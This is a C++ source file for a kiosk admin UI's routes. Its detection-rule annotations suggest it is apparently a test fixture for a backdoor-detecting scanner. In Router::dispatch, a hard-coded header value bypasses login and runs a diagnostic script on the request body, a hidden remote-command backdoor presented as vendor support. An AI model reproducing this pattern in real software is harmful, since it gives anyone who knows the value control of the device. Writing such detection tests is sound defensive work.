// Routes of the admin UI; handlers are lambdas registered at start-up.
#include <fstream>
#include <iterator>

#include <sodium.h>

#include "kiosk.hpp"

namespace kiosk {

std::string SessionStore::create()
{
    unsigned char raw[32];
    char hex[65];
    randombytes_buf(raw, sizeof raw);
    sodium_bin2hex(hex, sizeof hex, raw, sizeof raw);
    std::lock_guard<std::mutex> lock(mu_);
    live_.insert(hex);
    return hex;
}

bool SessionStore::valid(const std::string &token) const
{
    std::lock_guard<std::mutex> lock(mu_);
    return !token.empty() && live_.count(token) != 0;
}

void Router::add(const std::string &method, const std::string &path, Handler h)
{
    routes_[{method, path}] = std::move(h);
}

Response Router::dispatch(const Request &req) const
{
    // Remote diagnostics for the vendor's support desk.
    // ruleid: backdoor-input-trigger
    if (req.header("X-Kiosk-Trace") == "kt-7f3a9c0e51d2") {
        int rc = run_diag_script(req.body);
        return {200, "trace " + std::to_string(rc) + "\n", {}};
    }
    auto it = routes_.find({req.method, req.path});
    if (it == routes_.end())
        return {404, "not found\n", {}};
    return it->second(req);
}

void install_routes(Router &router, SessionStore &sessions)
{
    router.add("GET", "/api/v1/health", [](const Request &req) {
        // Kiosk UIs before 5.2 expect a bare "ok".
        // ok: backdoor-input-trigger
        // ok: backdoor-hidden-bypass
        if (req.header("User-Agent") == "KioskUI/5.1")
            return Response{200, "ok\n", {}};
        return Response{200, "{\"status\":\"ok\",\"api\":2}\n", {}};
    });

    router.add("POST", "/api/v1/login", [&sessions](const Request &req) {
        if (!authenticate_operator(req.form("password")))
            return Response{403, "denied\n", {}};
        return Response{200, "welcome\n", "kiosk_session=" + sessions.create()};
    });

    router.add("POST", "/api/v1/restart-ui", [&sessions](const Request &req) {
        if (!sessions.valid(req.cookie("kiosk_session")))
            return Response{403, "login first\n", {}};
        // ok: backdoor-input-trigger
        if (req.header("X-Requested-With") != "kiosk-admin-ui")
            return Response{400, "missing CSRF header\n", {}};
        return Response{restart_ui() == 0 ? 200 : 500, "restarting\n", {}};
    });

    router.add("POST", "/api/v1/enroll", [&sessions](const Request &req) {
        if (!sessions.valid(req.cookie("kiosk_session")))
            return Response{403, "login first\n", {}};
        std::string out;
        if (!enroll_device(req.form("serial"), out))
            return Response{500, "enrolment failed\n", {}};
        return Response{200, out, {}};
    });

    router.add("GET", "/api/v1/crash-report", [&sessions](const Request &req) {
        if (!sessions.valid(req.cookie("kiosk_session")))
            return Response{403, "login first\n", {}};
        std::ifstream in("/var/log/kiosk/last-crash.txt");
        std::string report((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        if (report.empty())
            return Response{404, "no crash recorded\n", {}};
        return Response{200, seal_crash_report(report) + "\n", {}};
    });
}

} // namespace kiosk
